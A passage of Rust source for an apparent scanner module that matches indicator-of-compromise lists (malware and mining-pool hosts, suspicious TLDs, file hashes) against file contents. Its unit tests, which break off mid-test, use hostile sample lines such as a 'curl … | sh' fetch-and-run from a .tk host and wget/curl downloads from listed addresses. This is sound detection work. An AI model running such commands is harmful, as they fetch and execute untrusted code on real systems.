//! Indicator lists: domains, IP addresses, URLs and sha256 file hashes, one per line, as data
//! (`signatures/ioc/*.txt`, plus the analyst's `--ioc FILE`). Host names and IPv4 addresses are
//! looked up, ignoring case, for every dotted token of every blob and config field (a subdomain
//! of a listed domain matches, a longer name does not): one hash lookup per token, so a list of
//! 150,000 hosts costs what ten do. Other names (URLs) are matched literally in the shared
//! literal pass, at the same name boundaries; hashes are matched against every file version's
//! sha256. A line `.tld` lists a top-level domain: it matches the host of a URL
//! (`scheme://name.tld`) ending in it, reported with the whole host; URLs are found by their
//! `://`, so the TLDs cost the name search nothing.

use std::borrow::Cow;
use std::collections::{BTreeMap, HashMap, HashSet};
use std::hash::BuildHasher;
use std::num::{NonZeroU16, NonZeroU32};
use std::path::{Path, PathBuf};
use std::sync::{Arc, OnceLock};

use hashbrown::{DefaultHashBuilder, HashTable};

use regex::bytes::Regex;
use serde::{Deserialize, Serialize};

use super::literals::{Literals, LiteralsError};
use crate::shared::digest::Sha256Sum;
use crate::shared::level::{Severity, UnknownLevel};
use crate::shared::url;

pub const BUILTIN: &[(&str, &str)] = &[
    ("mining_pools.txt", include_str!("../../signatures/ioc/mining_pools.txt")),
    ("malicious.txt", include_str!("../../signatures/ioc/malicious.txt")),
    ("suspicious_tlds.txt", include_str!("../../signatures/ioc/suspicious_tlds.txt")),
    ("file_drop.txt", include_str!("../../signatures/ioc/file_drop.txt")),
    ("malware_hosts.txt", include_str!("../../signatures/ioc/malware_hosts.txt")),
    ("miner_campaign_hosts.txt", include_str!("../../signatures/ioc/miner_campaign_hosts.txt")),
    ("web_injection_hosts.txt", include_str!("../../signatures/ioc/web_injection_hosts.txt")),
];
pub const NAMESPACE: &str = "ioc";

/// Indicators listed per blob before the rest are only counted.
const MAX_HITS_PER_BLOB: usize = 200;
/// Bytes of context shown on each side of a match.
const CONTEXT_BYTES: usize = 40;
/// Longest host name (RFC 1035).
const MAX_HOST: usize = 253;

#[derive(Debug, thiserror::Error)]
pub enum IocError {
    #[error("{path}: cannot read: {source}")]
    Read { path: PathBuf, source: std::io::Error },
    #[error("{origin}: {message}")]
    Invalid { origin: String, message: String },
}

/// What a list says about itself (its `# name:`, `# severity:` … header lines).
#[derive(Debug, Clone)]
pub struct IocList {
    pub name: String,
    pub severity: Severity,
    pub category: String,
    pub description: String,
    pub origin: String,
    examples: Vec<String>,
    negative_examples: Vec<String>,
    /// `# skip-paths:` a list's hits in a file whose path matches are dropped (documentation
    /// names legitimate sites on abused TLDs).
    skip_paths: Option<Regex>,
    /// `# allow:` hosts (and their subdomains) a TLD entry never reports.
    allowed_hosts: Vec<String>,
    /// `# family:` lines: the malware family or campaign of the indicators that follow each.
    families: Vec<String>,
    /// `# catalogue: N`: a blob naming N or more of the list's indicators lists them (a
    /// detection rule pack, a block list) rather than uses them; its hits of this list are dropped.
    catalogue: Option<usize>,
}

/// One indicator found in one blob.
/// `L` is how the list is held: loaded, or by name in the layer cache.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct IocHit<L = Arc<IocList>> {
    pub list: L,
    pub indicator: String,
    pub offset: u64,
    /// The text around the match, escaped.
    pub context: String,
    /// The family the list names for this indicator.
    pub family: Option<String>,
}

pub struct IocSet {
    lists: Vec<Arc<IocList>>,
    /// The names' own search, built at first use: a scan shares
    /// [`super::keywords::KeywordPass`]'s, so this one serves example checks and direct callers.
    names: OnceLock<Result<Literals, LiteralsError>>,
    /// Per name pattern: the name, and the lists giving it.
    name_lists: Vec<(String, Vec<usize>)>,
    /// Listed top-level domains (lowercase, without the dot), and the lists giving each.
    tlds: HashMap<String, Vec<usize>>,
    hosts: Hosts,
    hashes: HashMap<Sha256Sum, (usize, String)>,
    pub sources: Vec<String>,
    /// Hash of every list loaded (origin, text): what the indicators are.
    pub fingerprint: Sha256Sum,
}

impl IocSet {
    /// The built-in lists and the analyst's files. A list whose own examples fail is refused.
    pub fn compile(paths: &[PathBuf], builtin: bool) -> Result<IocSet, IocError> {
        // The built-in lists are read where the binary holds them: 3 MB not copied.
        let mut files: Vec<(String, Cow<'static, str>)> = Vec::new();
        if builtin {
            files.extend(BUILTIN.iter().map(|(name, text)| (format!("builtin:{name}"), Cow::Borrowed(*text))));
        }
        for path in paths {
            let text = std::fs::read_to_string(path).map_err(|source| IocError::Read { path: path.clone(), source })?;
            files.push((path.display().to_string(), Cow::Owned(text)));
        }
        let fingerprint = crate::shared::digest::fingerprint(files.iter().flat_map(|(origin, text)| [origin.as_str(), text.as_ref()]));
        let mut lists = Vec::new();
        let mut names: BTreeMap<String, Vec<usize>> = BTreeMap::new();
        let mut tlds: HashMap<String, Vec<usize>> = HashMap::new();
        let mut hashes = HashMap::new();
        let mut hosts = Hosts::default();
        for (origin, text) in files {
            let index = lists.len();
            let list = parse_list(&origin, &text, |indicator, family| {
                if let Some(hash) = sha256_indicator(indicator) {
                    hashes.insert(hash, (index, indicator.to_ascii_lowercase()));
                } else if let Some(tld) = indicator.strip_prefix('.') {
                    tlds.entry(tld.to_ascii_lowercase()).or_default().push(index);
                } else if is_host(indicator) {
                    hosts.add(indicator, index, family);
                } else {
                    names.entry(indicator.trim_end_matches('/').to_ascii_lowercase()).or_default().push(index);
                }
            })?;
            lists.push(Arc::new(list));
        }
        let name_lists: Vec<(String, Vec<usize>)> = names.into_iter().collect();
        let sources = paths.iter().map(|p| p.display().to_string()).collect();
        let set = IocSet { lists, names: OnceLock::new(), name_lists, tlds, hosts, hashes, sources, fingerprint };
        // The built-in lists' examples are checked by tests/ioc.rs, not on every start: that
        // would build a search of every name only for them.
        let failures = set.check_examples_of(|list| !list.origin.starts_with("builtin:"))?;
        if !failures.is_empty() {
            return Err(IocError::Invalid { origin: "indicator list examples".into(), message: failures.join("; ") });
        }
        Ok(set)
    }

    pub fn lists(&self) -> &[Arc<IocList>] {
        &self.lists
    }

    pub fn indicators(&self) -> usize {
        let lists_per_name = self.name_lists.iter().map(|(_, by)| by.len()).chain(self.tlds.values().map(Vec::len));
        lists_per_name.sum::<usize>() + self.hosts.entries.len() + self.hashes.len()
    }

    /// Every list's `# example:` lines must hit that list, and no `# negative:` line may.
    pub fn check_examples(&self) -> Result<Vec<String>, IocError> {
        self.check_examples_of(|_| true)
    }

    fn check_examples_of(&self, which: impl Fn(&IocList) -> bool) -> Result<Vec<String>, IocError> {
        let mut failures = Vec::new();
        for (index, list) in self.lists.iter().enumerate().filter(|(_, list)| which(list)) {
            let hits_list = |text: &str| -> Result<bool, IocError> {
                Ok(self.scan(text.as_bytes(), "/example")?.iter().any(|hit| Arc::ptr_eq(&hit.list, &self.lists[index])))
            };
            for example in &list.examples {
                if !hits_list(example)? {
                    failures.push(format!("{}: no indicator found in example {example:?}", list.origin));
                }
            }
            for example in &list.negative_examples {
                if hits_list(example)? {
                    failures.push(format!("{}: an indicator found in negative example {example:?}", list.origin));
                }
            }
        }
        Ok(failures)
    }

    /// Listed names (domains, IPs, URLs) in one blob at `path`, at name boundaries, and URL
    /// hosts under listed TLDs; in the order they appear. The set's own search of the names is
    /// built at first use; an error is that search failing to build.
    pub fn scan(&self, bytes: &[u8], path: &str) -> Result<Vec<IocHit>, IocError> {
        let mut hits = self.name_hits(bytes, path);
        if !self.name_lists.is_empty() {
            let names = self
                .names
                .get_or_init(|| Literals::new(&self.name_words().collect::<Vec<_>>()))
                .as_ref()
                .map_err(|err| IocError::Invalid { origin: "indicators".into(), message: err.to_string() })?;
            names.for_each_match(bytes, |start, name| hits.hit(start, name));
        }
        Ok(hits.finish())
    }

    /// The listed names that are not hosts, in the order of the name ids `NameHits::hit` takes
    /// (all ignoring case): for a literal pass shared with other words.
    pub fn name_words(&self) -> impl Iterator<Item = (&[u8], bool)> {
        self.name_lists.iter().map(|(name, _)| (name.as_bytes(), true))
    }

    /// Collects the listed names one blob at `path` holds, as a literal pass finds them.
    pub fn name_hits<'s>(&'s self, bytes: &'s [u8], path: &'s str) -> NameHits<'s> {
        NameHits { set: self, bytes, path, hits: Vec::new(), sinkholed: HashSet::new() }
    }

    /// Whether list `list` leaves files at `path` out.
    fn skips(&self, list: usize, path: &str) -> bool {
        self.lists[list].skip_paths.as_ref().is_some_and(|skip| skip.is_match(path.as_bytes()))
    }

    fn hit(&self, list: usize, indicator: String, bytes: &[u8], at: std::ops::Range<usize>) -> IocHit {
        self.hit_of_family(list, None, indicator, bytes, at)
    }

    fn hit_of_family(&self, list: usize, family: Option<u32>, indicator: String, bytes: &[u8], at: std::ops::Range<usize>) -> IocHit {
        let from = at.start.saturating_sub(CONTEXT_BYTES);
        let to = (at.end + CONTEXT_BYTES).min(bytes.len());
        let list = &self.lists[list];
        IocHit {
            list: list.clone(),
            indicator,
            offset: at.start as u64,
            context: crate::shared::pathbytes::display_bytes(&bytes[from..to]),
            family: family.and_then(|family| list.families.get(family as usize).cloned()),
        }
    }

    /// Whether any list names file hashes.
    pub fn has_hashes(&self) -> bool {
        !self.hashes.is_empty()
    }

    /// The list naming this file hash, if any.
    pub fn hash(&self, sha256: Sha256Sum) -> Option<(Arc<IocList>, String)> {
        self.hashes.get(&sha256).map(|(list, indicator)| (self.lists[*list].clone(), indicator.clone()))
    }
}

/// The indicators one blob holds, as a literal pass reports the listed names (in order of
/// start), then the URL hosts under listed TLDs.
pub struct NameHits<'s> {
    set: &'s IocSet,
    bytes: &'s [u8],
    path: &'s str,
    hits: Vec<IocHit>,
    /// Names the blob sends nowhere on a hosts-file line: a block list, whose other mentions
    /// of them (AdAway's `# [name]` headers) are no use of them either.
    sinkholed: HashSet<String>,
}

impl NameHits<'_> {
    /// Listed name `name` (an id of `IocSet::name_words`) occurs at `start`; false once the
    /// blob has given as many hits as are kept.
    pub fn hit(&mut self, start: usize, name: usize) -> bool {
        let (set, bytes, path) = (self.set, self.bytes, self.path);
        if self.hits.len() >= MAX_HITS_PER_BLOB {
            return false;
        }
        let (indicator, lists) = &set.name_lists[name];
        let end = start + indicator.len();
        if at_name_boundary(bytes, start, end) {
            if sinkholed(bytes, start) {
                self.sinkholed.insert(indicator.clone());
            } else {
                for &list in lists.iter().filter(|&&list| !set.skips(list, path)) {
                    self.hits.push(set.hit(list, indicator.clone(), bytes, start..end));
                }
            }
        }
        self.hits.len() < MAX_HITS_PER_BLOB
    }

    pub fn finish(mut self) -> Vec<IocHit> {
        let (set, bytes, path) = (self.set, self.bytes, self.path);
        if !set.hosts.is_empty() {
            let mut lower = [0u8; MAX_HOST];
            for token in host_tokens(bytes, |last| set.hosts.may_hold(last)) {
                if self.hits.len() >= MAX_HITS_PER_BLOB {
                    break;
                }
                let name = &mut lower[..token.len()];
                name.copy_from_slice(&bytes[token.clone()]);
                name.make_ascii_lowercase();
                for (skip, first) in set.hosts.listed_in(name) {
                    let at = token.start + skip..token.end;
                    let indicator = String::from_utf8_lossy(&name[skip..]).into_owned();
                    if sinkholed(bytes, at.start) {
                        self.sinkholed.insert(indicator);
                        continue;
                    }
                    for (list, family) in set.hosts.lists_of(first).filter(|(list, _)| !set.skips(*list, path)) {
                        self.hits.push(set.hit_of_family(list, family, indicator.clone(), bytes, at.clone()));
                    }
                }
            }
        }
        if !set.tlds.is_empty() {
            for host in url_hosts(bytes) {
                if self.hits.len() >= MAX_HITS_PER_BLOB {
                    break;
                }
                let name = String::from_utf8_lossy(&bytes[host.clone()]).to_ascii_lowercase();
                let Some((_, tld)) = name.rsplit_once('.') else { continue };
                let Some(lists) = set.tlds.get(tld) else { continue };
                for &list in lists.iter().filter(|&&list| !set.skips(list, path)) {
                    let allowed = |known: &String| name == *known || name.ends_with(&format!(".{known}"));
                    if !set.lists[list].allowed_hosts.iter().any(allowed) {
                        self.hits.push(set.hit(list, name.clone(), bytes, host.clone()));
                    }
                }
            }
        }
        if !self.sinkholed.is_empty() {
            self.hits.retain(|hit| !self.sinkholed.contains(&hit.indicator));
        }
        let catalogued: Vec<&Arc<IocList>> = set
            .lists
            .iter()
            .filter(|list| {
                list.catalogue.is_some_and(|at_least| {
                    let named: HashSet<&str> =
                        self.hits.iter().filter(|hit| Arc::ptr_eq(&hit.list, list)).map(|hit| hit.indicator.as_str()).collect();
                    named.len() >= at_least
                })
            })
            .collect();
        if !catalogued.is_empty() {
            self.hits.retain(|hit| !catalogued.iter().any(|list| Arc::ptr_eq(&hit.list, list)));
        }
        self.hits.truncate(MAX_HITS_PER_BLOB);
        self.hits.sort_by_key(|hit| hit.offset);
        self.hits
    }
}

/// A host name or address ends where the characters of a name end: a subdomain of a listed
/// domain matches (`pool.supportxmr.com`), a longer name (`mysupportxmr.com`,
/// `supportxmr.com.example.net`, `10.0.0.12` for `10.0.0.1`) does not.
fn at_name_boundary(bytes: &[u8], start: usize, end: usize) -> bool {
    let name_byte = |b: u8| b.is_ascii_alphanumeric() || b == b'-' || b == b'_';
    let before_ok = start == 0 || !name_byte(bytes[start - 1]);
    let after_ok = match bytes.get(end) {
        None => true,
        Some(b'.') => !bytes.get(end + 1).is_some_and(|b| name_byte(*b)),
        Some(b) => !name_byte(*b),
    };
    before_ok && after_ok
}

/// A hosts-file line that sends the name nowhere (`0.0.0.0 pool.supportxmr.com`): a blocklist
/// entry, the opposite of using the name.
fn sinkholed(bytes: &[u8], start: usize) -> bool {
    let line = super::line_leading_to(&bytes[..start]);
    ["0.0.0.0", "127.0.0.1", "::1", "::"]
        .iter()
        .any(|sink| line.strip_prefix(sink.as_bytes()).is_some_and(|rest| rest.first().is_some_and(|b| *b == b' ' || *b == b'\t')))
}

/// Listed hosts, lowercase, held compactly (every name once in one string, a table of entry
/// numbers): a list of 150,000 hosts takes about 5 MB, where a map of owned names took 28.
#[derive(Default)]
struct Hosts {
    names: String,
    entries: Vec<HostEntry>,
    /// The first entry of each name.
    table: HashTable<u32>,
    hasher: DefaultHashBuilder,
    /// The last label of every listed name, as `label_key` packs it: a token ending in another
    /// holds none of them.
    last_labels: hashbrown::HashSet<u128>,
    /// Whether a listed name ends in a label too long to pack (a long gTLD): then every token
    /// ending in one is looked up.
    long_last_labels: bool,
    /// The hash of every listed name's last two labels (`evil.com` of `cdn.evil.com`): of the
    /// tokens ending in a listed last label (`.com`, `.md`, `.py`, 8 % of the bench image's),
    /// only those whose last two labels end a listed name (0.6 % of those) are looked up whole.
    last_pairs: hashbrown::HashSet<u64>,
    addresses: bool,
}

/// One list giving one host.
struct HostEntry {
    start: u32,
    /// The next list giving the same host (never the first entry).
    next: Option<NonZeroU32>,
    list: u16,
    /// The list's family number, plus one.
    family: Option<NonZeroU16>,
    len: u8,
}

impl Hosts {
    fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    fn name(&self, entry: u32) -> &str {
        let entry = &self.entries[entry as usize];
        &self.names[entry.start as usize..entry.start as usize + entry.len as usize]
    }

    fn find(&self, name: &str) -> Option<u32> {
        self.table.find(self.hasher.hash_one(name), |&first| self.name(first) == name).copied()
    }

    /// Adds `host` (at most [`MAX_HOST`] bytes) as given by `list`; a repeat is ignored.
    fn add(&mut self, host: &str, list: usize, family: Option<u32>) {
        let host: Cow<str> =
            if host.bytes().any(|b| b.is_ascii_uppercase()) { Cow::Owned(host.to_ascii_lowercase()) } else { Cow::Borrowed(host) };
        let (Ok(list), Ok(len), Ok(start), Ok(entry)) =
            (u16::try_from(list), u8::try_from(host.len()), u32::try_from(self.names.len()), u32::try_from(self.entries.len()))
        else {
            return;
        };
        let family = family.and_then(|family| u16::try_from(family + 1).ok()).and_then(NonZeroU16::new);
        match host.rsplit_once('.') {
            Some((_, last)) if !last.bytes().all(|b| b.is_ascii_digit()) => {
                match label_key(last.as_bytes()) {
                    Some(key) => _ = self.last_labels.insert(key),
                    None => self.long_last_labels = true,
                }
                self.last_pairs.insert(self.hasher.hash_one(last_two_labels(host.as_bytes())));
            }
            _ => self.addresses = true,
        }
        let mut at = self.find(&host);
        let mut tail = None;
        while let Some(known) = at {
            if self.entries[known as usize].list == list {
                return;
            }
            tail = Some(known);
            at = self.entries[known as usize].next.map(NonZeroU32::get);
        }
        let (start, len) = match tail {
            // The same name again: its bytes are already held.
            Some(known) => (self.entries[known as usize].start, len),
            None => {
                self.names.push_str(&host);
                (start, len)
            }
        };
        self.entries.push(HostEntry { start, len, list, family, next: None });
        match tail {
            Some(known) => self.entries[known as usize].next = NonZeroU32::new(entry),
            None => {
                let hasher = &self.hasher;
                let (names, entries) = (&self.names, &self.entries);
                let name_of = |first: &u32| {
                    let e = &entries[*first as usize];
                    hasher.hash_one(&names[e.start as usize..e.start as usize + e.len as usize])
                };
                self.table.insert_unique(hasher.hash_one(&*host), entry, name_of);
            }
        }
    }

    /// The lists (and each one's family) giving a listed name.
    fn lists_of(&self, first: u32) -> impl Iterator<Item = (usize, Option<u32>)> + '_ {
        std::iter::successors(Some(first), |at| self.entries[*at as usize].next.map(NonZeroU32::get)).map(|at| {
            let entry = &self.entries[at as usize];
            (entry.list as usize, entry.family.map(|family| u32::from(family.get()) - 1))
        })
    }

    /// Whether a dotted token ending in label `last` could hold a listed name: an address
    /// when addresses are listed, a name when one ends in that label.
    fn may_hold(&self, last: &[u8]) -> bool {
        if last.first().is_some_and(u8::is_ascii_digit) {
            return self.addresses;
        }
        match label_key(last) {
            Some(key) => self.last_labels.contains(&key),
            None => self.long_last_labels && !last.is_empty(),
        }
    }

    /// Whether a lowercase dotted name's last two labels end a listed name.
    fn may_list(&self, name: &[u8]) -> bool {
        self.last_pairs.contains(&self.hasher.hash_one(last_two_labels(name)))
    }

    /// The listed names a lowercase dotted token holds, longest first: the token and each of
    /// its parent domains, or an address's last four labels; each with its offset in the token
    /// and its first entry.
    fn listed_in<'h>(&'h self, token: &'h [u8]) -> impl Iterator<Item = (usize, u32)> + 'h {
        let address = token.last().is_some_and(u8::is_ascii_digit);
        let dots = token.iter().filter(|b| **b == b'.').count();
        let after_dots = token.iter().enumerate().filter(|(_, b)| **b == b'.').map(|(at, _)| at + 1);
        let starts = std::iter::once(0).chain(after_dots);
        // An address is its last four labels; a name is any suffix of two labels or more, looked
        // up only when its last two labels end a listed name.
        let (skip, take) = if address {
            (dots.saturating_sub(3), usize::from(dots >= 3))
        } else if self.may_list(token) {
            (0, dots)
        } else {
            (0, 0)
        };
        starts.skip(skip).take(take).filter_map(move |start| {
            let name = std::str::from_utf8(&token[start..]).ok()?;
            self.find(name).map(|first| (start, first))
        })
    }
}

/// A dotted name's last two labels (the whole name when it has two or fewer).
fn last_two_labels(name: &[u8]) -> &[u8] {
    let mut dots = name.iter().enumerate().rev().filter(|(_, b)| **b == b'.').map(|(at, _)| at);
    match (dots.next(), dots.next()) {
        (Some(_), Some(second)) => &name[second + 1..],
        _ => name,
    }
}

/// A last label of up to 16 bytes, lowercase, packed in a number: the check every dotted token
/// of a blob takes costs no string.
fn label_key(label: &[u8]) -> Option<u128> {
    if label.is_empty() || label.len() > 16 {
        return None;
    }
    Some(label.iter().fold(0u128, |key, b| key << 8 | u128::from(b.to_ascii_lowercase())))
}

/// The bytes of a dotted token: letters, digits, `-`, `_` and dots.
static TOKEN_BYTE: [bool; 256] = {
    let mut table = [false; 256];
    let mut b = 0;
    while b < 256 {
        let c = b as u8;
        table[b] = c.is_ascii_alphanumeric() || c == b'-' || c == b'_' || c == b'.';
        b += 1;
    }
    table
};

/// Every dotted token of `bytes` whose last label `may_hold` a listed name: a longest run of
/// token bytes holding a dot, its leading and trailing dots cut, at most a host name long. A
/// run's edges are name boundaries, as `at_name_boundary` has them. Each byte is read about
/// twice: the run's start is looked for only when its last label passes.
fn host_tokens<'b>(bytes: &'b [u8], may_hold: impl Fn(&[u8]) -> bool + 'b) -> impl Iterator<Item = std::ops::Range<usize>> + 'b {
    let mut from = 0;
    memchr::memchr_iter(b'.', bytes).filter_map(move |dot| {
        // A dot of a run already read; else the first dot of its run, which began after `from`.
        if dot < from {
            return None;
        }
        let end = bytes[dot..].iter().position(|b| !TOKEN_BYTE[*b as usize]).map_or(bytes.len(), |at| dot + at);
        from = end;
        let stop = end - bytes[dot..end].iter().rev().take_while(|b| **b == b'.').count();
        let last_dot = dot + bytes[dot..stop].iter().rposition(|b| *b == b'.')?;
        let last = &bytes[last_dot + 1..stop];
        // An address has four labels or more: three dots from its run's first.
        if last.first().is_some_and(u8::is_ascii_digit) && bytes[dot..stop].iter().filter(|b| **b == b'.').count() < 3 {
            return None;
        }
        if !may_hold(last) {
            return None;
        }
        let run_start = bytes[..dot].iter().rposition(|b| !TOKEN_BYTE[*b as usize]).map_or(0, |at| at + 1);
        let start = run_start + bytes[run_start..stop].iter().take_while(|b| **b == b'.').count();
        (stop - start <= MAX_HOST && start < last_dot).then_some(start..stop)
    })
}

/// Whether an indicator is a host name or an IPv4 address (looked up by token), not a URL.
fn is_host(indicator: &str) -> bool {
    let label = |l: &str| !l.is_empty() && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_');
    let Some((_, last)) = indicator.rsplit_once('.') else { return false };
    if indicator.len() > MAX_HOST || !indicator.split('.').all(label) {
        return false;
    }
    if last.bytes().all(|b| b.is_ascii_digit()) {
        return indicator.split('.').count() == 4 && indicator.split('.').all(|l| l.len() <= 3 && l.parse::<u8>().is_ok());
    }
    last.len() >= 2 && (last.bytes().all(|b| b.is_ascii_alphabetic()) || last.to_ascii_lowercase().starts_with("xn--"))
}

/// The host of every URL (`scheme://[user[:password]@]host`) with at least two labels:
/// `window.top` and `archive.zip` in a URL's path are no hosts.
fn url_hosts(bytes: &[u8]) -> impl Iterator<Item = std::ops::Range<usize>> + '_ {
    let host_byte = |b: &u8| b.is_ascii_alphanumeric() || *b == b'-' || *b == b'.';
    memchr::memmem::find_iter(bytes, b"://").filter_map(move |scheme_end| {
        let after = scheme_end + 3;
        let start = after + url::authority(&bytes[after..]).host.start;
        let run = bytes[start..].iter().take(MAX_HOST + 1).take_while(|b| host_byte(b)).count();
        // Too long for a host, or running on into a name (`x.tk_y`).
        if run > MAX_HOST || bytes.get(start + run).is_some_and(|b| *b == b'_') {
            return None;
        }
        // A fully qualified name's final dot is no label.
        let host = &bytes[start..start + run];
        let end = start + host.len() - host.iter().rev().take_while(|b| **b == b'.').count();
        let host = &bytes[start..end];
        let two_labels = host.iter().rposition(|b| *b == b'.').is_some_and(|dot| dot > 0 && !host.starts_with(b"."));
        two_labels.then_some(start..end)
    })
}

/// A file hash as lists give them: hex in either case, `sha256:` before it or not.
fn sha256_indicator(indicator: &str) -> Option<Sha256Sum> {
    let hex = indicator.strip_prefix("sha256:").unwrap_or(indicator);
    Sha256Sum::from_hex(&hex.to_ascii_lowercase()).ok()
}

/// Parses one list: `# key: value` header lines, `#` comments, one indicator per line.
fn parse_list(origin: &str, text: &str, mut indicator: impl FnMut(&str, Option<u32>)) -> Result<IocList, IocError> {
    let stem = Path::new(origin.trim_start_matches("builtin:")).file_stem().map(|s| s.to_string_lossy().into_owned());
    let mut list = IocList {
        name: stem.unwrap_or_else(|| "ioc".into()),
        severity: Severity::High,
        category: "ioc".into(),
        description: format!("An indicator listed in {origin}"),
        origin: origin.to_string(),
        examples: Vec::new(),
        negative_examples: Vec::new(),
        skip_paths: None,
        allowed_hosts: Vec::new(),
        families: Vec::new(),
        catalogue: None,
    };
    for (number, line) in text.lines().enumerate() {
        let line = line.trim();
        if let Some(comment) = line.strip_prefix('#') {
            let Some((key, value)) = comment.split_once(':') else { continue };
            let value = value.trim().to_string();
            match key.trim() {
                "name" => list.name = value,
                "severity" => {
                    list.severity = value.parse().map_err(|err: UnknownLevel| IocError::Invalid {
                        origin: format!("{origin}:{}", number + 1),
                        message: err.to_string(),
                    })?
                }
                "category" => list.category = value,
                "description" => list.description = value,
                "example" => list.examples.push(value),
                "negative" => list.negative_examples.push(value),
                "allow" => list.allowed_hosts.extend(value.split_whitespace().map(str::to_ascii_lowercase)),
                // `# family: name (where it comes from)`: the name, for the indicators below.
                "family" => list.families.push(value.split_whitespace().next().unwrap_or_default().to_string()),
                "catalogue" => {
                    let at_least = value.parse::<usize>().ok().filter(|n| *n >= 2).ok_or_else(|| IocError::Invalid {
                        origin: format!("{origin}:{}", number + 1),
                        message: format!("catalogue: {value:?} is not a count of 2 or more"),
                    })?;
                    list.catalogue = Some(at_least);
                }
                "skip-paths" => {
                    let skip = Regex::new(&value).map_err(|err| IocError::Invalid {
                        origin: format!("{origin}:{}", number + 1),
                        message: format!("skip-paths: {err}"),
                    })?;
                    list.skip_paths = Some(skip);
                }
                _ => {}
            }
            continue;
        }
        if line.is_empty() {
            continue;
        }
        let tld = line.strip_prefix('.').is_some_and(|tld| tld.len() >= 2 && tld.bytes().all(|b| b.is_ascii_alphanumeric()));
        if (line.len() < 4 && !tld) || line.contains(char::is_whitespace) {
            return Err(IocError::Invalid {
                origin: format!("{origin}:{}", number + 1),
                message: format!("{line:?} is not a domain, IP address, URL, .tld or sha256 (one per line)"),
            });
        }
        let family = list.families.len().checked_sub(1).and_then(|last| u32::try_from(last).ok());
        indicator(line, family);
    }
    Ok(list)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn boundaries_keep_subdomains_and_drop_longer_names() {
        let text = b"a pool.supportxmr.com:443 b mysupportxmr.com c supportxmr.com.evil.net d supportxmr.com.";
        let at = |needle: &str| {
            let start = text.windows(needle.len()).position(|w| w == needle.as_bytes()).unwrap();
            (start, start + needle.len())
        };
        let (s, e) = at("supportxmr.com:443");
        assert!(at_name_boundary(text, s, e - 4));
        let (s, e) = at("supportxmr.com c");
        assert!(!at_name_boundary(text, s, e - 2), "mysupportxmr.com");
        let (s, e) = at("supportxmr.com.evil");
        assert!(!at_name_boundary(text, s, e - 5));
        let end = text.len() - 1;
        assert!(at_name_boundary(text, end - "supportxmr.com".len(), end), "at the end of a sentence");
    }

    #[test]
    fn a_tld_matches_only_the_end_of_a_url_host() {
        let set = IocSet::compile(&[], true).unwrap();
        let hosts = |text: &str| -> Vec<String> {
            set.scan(text.as_bytes(), "/entrypoint.sh")
                .unwrap()
                .into_iter()
                .filter(|hit| hit.list.name == "suspicious-tld")
                .map(|hit| hit.indicator)
                .collect()
        };
        assert_eq!(hosts("curl -fsSL https://Cdn.Update-Check.TK/x.sh | sh"), ["cdn.update-check.tk"]);
        assert_eq!(hosts("wget ftp://u:p@files.example.top:21/a"), ["files.example.top"]);
        assert_eq!(hosts("if (window.top !== window.self) {} https://github.com/a/b/archive/main.zip"), Vec::<String>::new());
        assert_eq!(hosts("see https://example.tkx/ and https://.tk/"), Vec::<String>::new());
        assert_eq!(hosts("Tcl lives at https://www.tcl.tk/ and https://core.tcl.tk/"), Vec::<String>::new(), "allowed hosts");
        assert_eq!(hosts("http://a.b.tk./x http://x.tk_y/ http://u@ssh://c.tk"), ["a.b.tk", "c.tk"], "final dot; a longer name");
        let long = format!("https://{}.tk/", "a".repeat(300));
        assert_eq!(hosts(&long), Vec::<String>::new(), "longer than a host name can be");
        let in_docs = set.scan(b"https://cdn.update-check.tk/x.sh", "/usr/share/doc/pkg/README").unwrap();
        assert!(in_docs.iter().all(|hit| hit.list.name != "suspicious-tld"), "documentation is skipped");
    }

    #[test]
    fn a_name_in_two_lists_and_names_inside_names_are_all_reported() {
        let dir = tempfile::tempdir().unwrap();
        let first = dir.path().join("first.txt");
        let second = dir.path().join("second.txt");
        std::fs::write(&first, "pool.example.org\nexample.org\n").unwrap();
        std::fs::write(&second, "EXAMPLE.org\n").unwrap();
        let set = IocSet::compile(&[first, second], false).unwrap();
        let found: Vec<(String, String, u64)> = set
            .scan(b"stratum+tcp://Pool.Example.org:3333", "/etc/miner.json")
            .unwrap()
            .into_iter()
            .map(|hit| (hit.list.name.clone(), hit.indicator, hit.offset))
            .collect();
        let want = |list: &str, name: &str, at: u64| (list.to_string(), name.to_string(), at);
        assert_eq!(found, [want("first", "pool.example.org", 14), want("first", "example.org", 19), want("second", "example.org", 19)]);
    }

    #[test]
    fn hosts_are_found_by_token_at_the_boundaries_the_literal_search_kept() {
        let dir = tempfile::tempdir().unwrap();
        let list = dir.path().join("case.txt");
        std::fs::write(&list, "supportxmr.com\n45.9.148.99\nhttps://transfer.sh\n").unwrap();
        let set = IocSet::compile(&[list], false).unwrap();
        assert_eq!(set.name_words().count(), 1, "only the URL goes to the literal pass");
        let found = |text: &str| -> Vec<(String, u64)> {
            set.scan(text.as_bytes(), "/etc/x").unwrap().into_iter().map(|hit| (hit.indicator, hit.offset)).collect()
        };
        let at = |name: &str, offset: u64| vec![(name.to_string(), offset)];
        assert_eq!(found("-o Pool.SupportXMR.com:443"), at("supportxmr.com", 8), "a subdomain, any case");
        assert_eq!(found("-opool.supportxmr.com"), at("supportxmr.com", 7));
        assert_eq!(found("see supportxmr.com."), at("supportxmr.com", 4), "the end of a sentence");
        assert_eq!(found("..supportxmr.com...\n"), at("supportxmr.com", 2), "dots around");
        assert_eq!(found("a..supportxmr.com"), at("supportxmr.com", 3), "an empty label before");
        for quiet in ["mysupportxmr.com", "x_supportxmr.com", "supportxmr.com.evil.net", "supportxmr.com_x", "0.0.0.0 supportxmr.com"] {
            assert_eq!(found(quiet), [], "{quiet}");
        }
        assert_eq!(found("wget 45.9.148.99:3333/x"), at("45.9.148.99", 5));
        assert_eq!(found("v10.45.9.148.99"), at("45.9.148.99", 4), "the last four labels");
        for quiet in ["145.9.148.99", "45.9.148.990", "45.9.148.99a", "45.9.148"] {
            assert_eq!(found(quiet), [], "{quiet}");
        }
        assert_eq!(found("curl https://transfer.sh/x"), at("https://transfer.sh", 5));
        assert_eq!(
            found("# [supportxmr.com]\n0.0.0.0 supportxmr.com\n# https://transfer.sh\n0.0.0.0 https://transfer.sh\n"),
            [],
            "a block list"
        );
        assert_eq!(found("# [supportxmr.com]\n0.0.0.0 xmrpool.eu\n"), at("supportxmr.com", 3), "blocking one name keeps another");
